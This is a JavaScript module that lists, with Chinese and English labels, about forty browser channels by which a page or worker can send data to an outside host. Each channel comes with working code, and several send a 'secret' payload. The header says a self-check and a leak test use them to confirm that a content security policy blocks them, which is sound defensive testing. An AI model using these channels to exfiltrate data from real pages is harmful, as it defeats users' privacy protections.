// Every way we know by which a page could send something to somebody. The self-check tries them in
// front of whoever looks; the end-to-end test `leaks` tries the same ones, and from the service worker
// too, against a server that counts who arrives.
//
// `attempt` stands alone (it is sent to where it is to run as text) and is given `to`:
// `{ http, ws, https, host, port }` of somebody who is none of us, `http` and `https` ending with a
// slash, and `put` of this file. It throws, or returns when it has been tried; what came of it others
// find out.
//
// - `inPage`, `inWorker`, `inService`: where the way exists.
// - `open`: no content security policy closes it. It is open in a browser that does not know
//   Connection-Allowlist; `connects`: there a connection is made, and nothing asked.
// - `leaves`: it would take the page away, so the self-check concludes instead of trying.
// - `indirect`: it violates the policy on purpose, and what could leak is the report of that.

/** Puts an element into the page, waits until it has had its chance, and takes it out again. */
export const put = async (name, properties) => {
  const one = Object.assign(document.createElement(name), properties);
  document.head.append(one);
  await new Promise((resolve) => {
    one.onload = one.onerror = resolve;
    setTimeout(resolve, 700);
  });
  one.remove();
};

const everywhere = { inPage: true, inWorker: true, inService: true };
const inPage = { inPage: true };

export const ways = [
  {
    ...everywhere, id: 'fetch', zh: 'fetch 请求', en: 'fetch',
    attempt: (to) => fetch(`${to.http}fetch?secret`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  },
  {
    ...inPage, id: 'keepalive', zh: '页面关闭后仍发送的 fetch', en: 'fetch kept alive',
    attempt: (to) => fetch(`${to.http}keepalive`, { mode: 'no-cors', keepalive: true }),
  },
  {
    ...inPage, id: 'later', zh: '延后发送的 fetchLater', en: 'fetchLater',
    attempt: async (to) => { fetchLater(`${to.https}later`, { activateAfter: 0 }); },
  },
  {
    inPage: true, inWorker: true, id: 'xhr', zh: 'XMLHttpRequest', en: 'XMLHttpRequest',
    attempt: (to) => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${to.http}xhr`);
      request.onloadend = resolve;
      request.send('secret');
    }),
  },
  {
    ...inPage, id: 'beacon', zh: '信标 sendBeacon', en: 'beacon',
    attempt: async (to) => { navigator.sendBeacon(`${to.http}beacon`, 'secret'); },
  },
  {
    ...inPage, id: 'image', zh: '图片', en: 'image',
    attempt: (to) => new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = `${to.http}image?secret`;
    }),
  },
  {
    ...inPage, id: 'image-input', zh: '图片按钮', en: 'image button',
    attempt: ({ http, put }) => put('input', { type: 'image', src: `${http}input` }),
  },
  {
    ...inPage, id: 'svg', zh: 'SVG 外部图形', en: 'SVG reference',
    attempt: async (to) => {
      const names = 'http://www.w3.org/2000/svg';
      const [svg, image] = ['svg', 'image'].map((name) => document.createElementNS(names, name));
      image.setAttribute('href', `${to.http}svg`);
      svg.append(image);
      document.body.append(svg);
      await new Promise((resolve) => setTimeout(resolve, 400));
      svg.remove();
    },
  },
  { ...inPage, id: 'script', zh: '脚本', en: 'script', attempt: ({ http, put }) => put('script', { src: `${http}script.js` }) },
  {
    inPage: true, inWorker: true, inService: true, id: 'import', zh: '模块 import()', en: 'module import',
    attempt: (to) => import(`${to.http}module.js`),
  },
  {
    inWorker: true, inService: true, id: 'import-scripts', zh: 'importScripts', en: 'importScripts',
    attempt: async (to) => { importScripts(`${to.http}import.js`); },
  },
  {
    inPage: true, inWorker: true, id: 'worker', zh: '后台线程 Worker', en: 'worker',
    attempt: async (to) => { new Worker(`${to.http}worker.js`); },
  },
  {
    ...inPage, id: 'shared-worker', zh: '共享线程 SharedWorker', en: 'shared worker',
    attempt: async (to) => { new SharedWorker(`${to.http}shared.js`); },
  },
  {
    ...inPage, id: 'service-worker', zh: '另一个 Service Worker', en: 'service worker of another',
    attempt: (to) => navigator.serviceWorker.register(`${to.http}service.js`),
  },
  {
    ...inPage, id: 'worklet', zh: '绘制与声音 Worklet', en: 'paint and audio worklet',
    attempt: async (to) => {
      const audio = new OfflineAudioContext(1, 1, 44100).audioWorklet;
      const all = [globalThis.CSS?.paintWorklet, audio].filter(Boolean);
      await Promise.allSettled(all.map((one) => one.addModule(`${to.http}worklet.js`)));
    },
  },
  { ...inPage, id: 'stylesheet', zh: '样式表', en: 'style sheet', attempt: ({ http, put }) => put('link', { rel: 'stylesheet', href: `${http}stylesheet` }) },
  {
    ...inPage, id: 'css', zh: 'CSS 里的地址和 @import', en: 'CSS url() and @import',
    attempt: async (to) => {
      const sheet = document.styleSheets[0];
      document.body.style.setProperty('background-image', `url(${to.http}css)`);
      document.body.style.setProperty('cursor', `url(${to.http}cursor), auto`);
      sheet.insertRule(`@import url(${to.http}css-import)`, 0);
      await new Promise((resolve) => setTimeout(resolve, 400));
      document.body.removeAttribute('style');
      sheet.deleteRule(0);
    },
  },
  {
    ...everywhere, id: 'font', zh: '字体', en: 'font',
    attempt: (to) => new FontFace('leak', `url(${to.http}font)`).load(),
  },
  {
    ...everywhere, id: 'websocket', zh: 'WebSocket', en: 'WebSocket',
    attempt: (to) => new Promise((resolve) => {
      const socket = new WebSocket(`${to.ws}socket`);
      socket.onopen = socket.onerror = socket.onclose = resolve;
    }),
  },
  {
    ...everywhere, id: 'eventsource', zh: 'EventSource', en: 'EventSource',
    attempt: (to) => new Promise((resolve) => {
      const source = new EventSource(`${to.http}events`);
      source.onopen = resolve;
      source.onerror = () => resolve(source.close());
    }),
  },
  {
    ...everywhere, id: 'webtransport', zh: 'WebTransport', en: 'WebTransport',
    attempt: (to) => new WebTransport(`${to.https}transport`).ready,
  },
  { ...inPage, connects: true, id: 'frame', zh: '内嵌页面', en: 'frame', attempt: ({ http, put }) => put('iframe', { src: `${http}frame` }) },
  {
    ...inPage, id: 'frame-inside', zh: '内嵌的空白页里再发送', en: 'from a blank frame',
    attempt: async (to) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      try {
        await frame.contentWindow.fetch(`${to.http}blank`, { mode: 'no-cors' });
      } finally {
        frame.remove();
      }
    },
  },
  {
    ...inPage, id: 'object', zh: 'object 与 embed', en: 'object and embed',
    attempt: async (to) => {
      const all = [['object', 'data'], ['embed', 'src']].map(([name, where]) => {
        const one = document.createElement(name);
        one.setAttribute(where, `${to.http}${name}`);
        document.body.append(one);
        return one;
      });
      await new Promise((resolve) => setTimeout(resolve, 400));
      all.forEach((one) => one.remove());
    },
  },
  { ...inPage, id: 'audio', zh: '声音', en: 'audio', attempt: ({ http, put }) => put('audio', { src: `${http}audio` }) },
  {
    ...inPage, id: 'video', zh: '视频和封面', en: 'video and poster',
    attempt: ({ http, put }) => put('video', { src: `${http}video`, poster: `${http}poster` }),
  },
  {
    ...inPage, id: 'track', zh: '字幕', en: 'track',
    attempt: async (to) => {
      const [video, track] = ['video', 'track'].map((name) => document.createElement(name));
      Object.assign(track, { src: `${to.http}track`, default: true });
      video.append(track);
      document.body.append(video);
      track.track.mode = 'showing';
      await new Promise((resolve) => setTimeout(resolve, 400));
      video.remove();
    },
  },
  {
    ...inPage, id: 'manifest', zh: '图标与清单', en: 'icon and manifest',
    attempt: async (to) => {
      const all = ['manifest', 'icon'].map((rel) => {
        return Object.assign(document.createElement('link'), { rel, href: to.http + rel });
      });
      document.head.append(...all);
      await new Promise((resolve) => setTimeout(resolve, 400));
      all.forEach((one) => one.remove());
    },
  },
  { ...inPage, id: 'preload', zh: '预加载', en: 'preload', attempt: ({ http, put }) => put('link', { rel: 'preload', href: `${http}preload`, as: 'image' }) },
  { ...inPage, id: 'modulepreload', zh: '模块预加载', en: 'module preload', attempt: ({ http, put }) => put('link', { rel: 'modulepreload', href: `${http}modulepreload` }) },
  { ...inPage, id: 'prefetch', zh: '预取', en: 'prefetch', attempt: ({ http, put }) => put('link', { rel: 'prefetch', href: `${http}prefetch` }) },
  { ...inPage, id: 'preconnect', zh: '预连接', en: 'preconnect', attempt: ({ http, put }) => put('link', { rel: 'preconnect', href: `${http}preconnect` }) },
  { ...inPage, id: 'dns-prefetch', zh: '预查域名', en: 'DNS prefetch', attempt: ({ http, put }) => put('link', { rel: 'dns-prefetch', href: `${http}dns-prefetch` }) },
  {
    ...inPage, id: 'speculation', zh: '预渲染规则', en: 'speculation rules',
    attempt: async (to) => {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      const list = [{ urls: [`${to.http}rules`] }];
      rules.append(JSON.stringify({ prerender: list, prefetch: list }));
      document.head.append(rules);
      await new Promise((resolve) => setTimeout(resolve, 400));
      rules.remove();
    },
  },
  {
    ...inPage, indirect: true, id: 'reporting', zh: '违规报告', en: 'violation reports',
    attempt: async (to) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'Content-Security-Policy';
      meta.content = `img-src data: blob: 'self'; report-uri ${to.http}report; report-to ${to.http}report`;
      document.head.append(meta);
      const image = new Image();
      image.src = `${to.http}reported`;
      await new Promise((resolve) => setTimeout(resolve, 400));
      meta.remove();
    },
  },
  {
    ...inPage, id: 'form', zh: '表单', en: 'form',
    attempt: async (to) => {
      const form = document.createElement('form');
      Object.assign(form, { action: `${to.http}form`, method: 'post', target: 'elsewhere' });
      document.body.append(form);
      form.submit();
      form.remove();
    },
  },
  {
    ...inPage, id: 'payment', zh: '支付方式', en: 'payment method',
    attempt: (to) => {
      const total = { label: '-', amount: { currency: 'CNY', value: '1' } };
      return new PaymentRequest([{ supportedMethods: `${to.https}pay` }], { total }).canMakePayment();
    },
  },
  {
    inService: true, id: 'cache', zh: '缓存', en: 'cache',
    attempt: async (to) => (await caches.open('leak')).add(`${to.http}cache`),
  },
  {
    inPage: true, inService: true, id: 'background-fetch', zh: '后台下载', en: 'background fetch',
    attempt: async (to) => {
      const here = globalThis.registration ?? (await navigator.serviceWorker.getRegistration());
      await here.backgroundFetch.fetch('leak', [`${to.http}background`]);
    },
  },
  {
    ...inPage, leaves: true, open: true, id: 'navigation', zh: '跳转', en: 'navigation',
    attempt: async (to) => { location.href = `${to.http}away?secret`; },
  },
  {
    ...inPage, leaves: true, open: true, id: 'refresh', zh: '定时跳转', en: 'refresh',
    attempt: async (to) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0; url=${to.http}refresh`;
      document.head.append(meta);
    },
  },
  {
    ...inPage, leaves: true, open: true, id: 'link', zh: '链接', en: 'link',
    attempt: async (to) => {
      const a = document.createElement('a');
      Object.assign(a, { href: `${to.http}link?secret`, target: '_blank', rel: 'noopener' });
      document.body.append(a);
      a.click();
      a.remove();
    },
  },
  {
    ...inPage, id: 'ping', zh: '链接的 ping', en: 'ping of a link',
    attempt: async (to) => {
      const a = Object.assign(document.createElement('a'), { href: '#', ping: `${to.http}ping` });
      document.body.append(a);
      a.click();
      a.remove();
    },
  },
  {
    ...inPage, leaves: true, open: true, id: 'download', zh: '下载', en: 'download',
    attempt: async (to) => {
      const a = document.createElement('a');
      Object.assign(a, { href: `${to.http}download?secret`, download: 'x' });
      document.body.append(a);
      a.click();
      a.remove();
    },
  },
  {
    ...inPage, leaves: true, open: true, id: 'pop-up', zh: '新窗口', en: 'pop-up',
    attempt: async (to) => { window.open(`${to.http}window?secret`); },
  },
  {
    inService: true, leaves: true, open: true, id: 'client-navigation',
    zh: 'Service Worker 让页面跳转', en: 'navigation by the service worker',
    attempt: async (to) => {
      const [page] = await clients.matchAll({ type: 'window' });
      await page.navigate(`${to.http}navigate`);
    },
  },
  {
    ...inPage, open: true, id: 'webrtc', zh: 'WebRTC', en: 'WebRTC',
    attempt: async (to) => {
      const urls = [`stun:${to.host}:${to.port}`, `turn:${to.host}:${to.port}?transport=tcp`];
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'x' }] });
      let [found, failed] = [0, 0];
      peer.onicecandidate = ({ candidate }) => (found += candidate ? 1 : 0);
      peer.onicecandidateerror = () => (failed += 1);
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 2000));
      const over = peer.iceGatheringState === 'complete';
      peer.close();
      // One that asks nobody is done at once and has nothing to complain of.
      if (over && failed === 0) throw new Error(found > 0 ? 'stopped' : 'no network');
    },
  },
];
